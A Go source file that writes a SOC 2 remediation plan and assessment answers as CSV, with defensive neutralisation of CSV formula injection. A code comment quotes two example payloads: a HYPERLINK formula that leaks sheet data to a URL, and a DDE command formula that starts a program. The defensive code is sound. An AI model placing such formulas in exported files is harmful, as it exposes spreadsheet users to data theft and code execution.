package report

import (
	"encoding/csv"
	"fmt"
	"io"
	"strconv"
	"strings"

	"soc2ready/assessment"
)

// PlanCSVHeader is the documented column order of the plan as CSV. Columns
// are only ever added at the end, so scripts can rely on the order.
var PlanCSVHeader = []string{"priority", "question", "action", "owner", "due", "effort", "probability", "criteria", "status"}

// Spreadsheets run a CSV cell that starts with = + - @ TAB or CR as a
// formula: a note such as =HYPERLINK("http://…"&B2,"Click") would leak the
// sheet, and =cmd|' /C calc'!A0 start a program. As OWASP recommends
// (https://owasp.org/www-community/attacks/CSV_Injection), every CSV cell we
// write that starts with one of them gets a single quote in front, which
// spreadsheets show as text; the spreadsheet import removes it again
// (restoreCell). A cell that already starts with quotes and then one of
// them gets one more quote, so that reading back gives exactly what was
// written.
const formulaStarts = "=+-@\t\r"

// startsFormula reports whether a spreadsheet would take s as a formula.
func startsFormula(s string) bool {
	return s != "" && strings.IndexByte(formulaStarts, s[0]) >= 0
}

// looksNeutralised reports whether s is one or more single quotes followed
// by a formula start: what neutraliseCell makes of a formula.
func looksNeutralised(s string) bool {
	t := strings.TrimLeft(s, "'")
	return len(t) < len(s) && startsFormula(t)
}

// neutraliseCell makes a CSV cell safe to open in a spreadsheet.
func neutraliseCell(s string) string {
	if startsFormula(s) || looksNeutralised(s) {
		return "'" + s
	}
	return s
}

// quoteNeutralLooking is neutraliseCell for a spreadsheet cell typed as
// text, which never runs as a formula: only a value that would read back as
// neutralised gets its extra quote.
func quoteNeutralLooking(s string) string {
	if looksNeutralised(s) {
		return "'" + s
	}
	return s
}

// restoreCell reads a neutralised cell back as the text it stood for.
func restoreCell(s string) string {
	if looksNeutralised(s) {
		return s[1:]
	}
	return s
}

// writeRow writes one CSV record, every cell neutralised.
func writeRow(cw *csv.Writer, cells []string) {
	safe := make([]string, len(cells))
	for i, c := range cells {
		safe[i] = neutraliseCell(c)
	}
	cw.Write(safe) // errors surface at Flush
}

// WritePlanCSV writes the remediation plan as CSV: one row per action, in
// priority order, probabilities as decimals (0–1), criteria space-separated,
// status todo, in_progress or done.
func WritePlanCSV(w io.Writer, p assessment.Plan) error {
	cw := csv.NewWriter(w)
	writeRow(cw, PlanCSVHeader)
	for _, act := range p.Actions {
		writeRow(cw, []string{
			strconv.Itoa(act.Priority), act.Question.ID, act.Action, act.Owner, act.Due.String(),
			string(act.Effort), strconv.FormatFloat(round4(act.Probability), 'f', -1, 64),
			strings.Join(act.Question.Criteria, " "), string(act.Status),
		})
	}
	cw.Flush()
	if err := cw.Error(); err != nil {
		return fmt.Errorf("write plan CSV: %w", err)
	}
	return nil
}

func round4(x float64) float64 { return float64(int64(x*1e4+0.5)) / 1e4 }

// WriteAnswersCSV writes the answers as CSV with the columns of the Answers
// sheet (AnswersCSVHeader): one row per applicable question in bank order,
// dates as YYYY-MM-DD, criteria space-separated, the chance of an exception
// as a decimal (0–1), blank for a not-applicable answer.
func WriteAnswersCSV(w io.Writer, b *assessment.Bank, a *assessment.Assessment) error {
	cw := csv.NewWriter(w)
	writeRow(cw, AnswersCSVHeader)
	for _, r := range answerRows(b, a, assessment.Score(b, a)) {
		chance := ""
		if r.hasRisk {
			chance = strconv.FormatFloat(r.chance, 'f', -1, 64)
		}
		writeRow(cw, []string{
			r.q.ID, r.area, r.q.Title, r.q.Prompt, string(r.ans.Status), string(r.ans.Evidence),
			r.consistency(), r.ans.NAReason, r.ans.Owner, r.ans.Due.String(), r.ans.Notes,
			yesBlank(r.ans.Flag), strings.Join(r.q.Criteria, " "), chance,
		})
	}
	cw.Flush()
	if err := cw.Error(); err != nil {
		return fmt.Errorf("write answers CSV: %w", err)
	}
	return nil
}
